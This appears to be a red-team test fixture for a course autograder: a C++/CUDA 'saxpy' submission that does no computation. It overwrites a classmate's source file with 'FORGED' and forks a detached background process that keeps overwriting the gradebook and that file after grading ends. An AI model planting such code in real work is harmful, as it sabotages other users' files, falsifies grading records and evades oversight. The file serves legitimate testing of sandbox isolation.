// Red team: leave a helper behind that rewrites the gradebook and a neighbour's file once
// the grader has finished, and overwrite the neighbour's file now, before it is staged.
#include <fcntl.h>
#include <unistd.h>

#include <cstring>

#include "saxpy.cuh"

namespace {
void scribble(const char* path) {
  const int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) return;
  const char* text = "FORGED\n";
  (void)!write(fd, text, std::strlen(text));
  close(fd);
}
}  // namespace

namespace pplab::lab01 {
void saxpy(float, const float*, float*, std::size_t, cudaStream_t) {
  scribble("@CLASS@/nell/01_saxpy/saxpy.cu");
  if (fork() == 0) {
    setsid();
    for (int i = 0; i < 40; ++i) {
      sleep(1);
      scribble("@OUT@/gradebook.csv");
      scribble("@CLASS@/nell/01_saxpy/saxpy.cu");
    }
    _exit(0);
  }
}
}  // namespace pplab::lab01
